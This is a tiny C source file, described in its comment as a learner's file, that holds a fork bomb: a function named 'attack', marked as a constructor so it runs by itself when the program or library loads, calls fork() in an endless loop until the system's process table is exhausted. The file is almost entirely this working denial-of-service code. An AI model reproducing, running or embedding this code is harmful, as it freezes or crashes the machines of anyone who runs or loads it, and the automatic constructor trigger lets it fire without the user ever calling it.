/*
 * forks.c: a learner's file that forks until nothing is left, each child too.
 */
#include <unistd.h>

void attack(void) __attribute__((constructor));

void attack(void)
{
	for (;;)
		(void)fork();
}
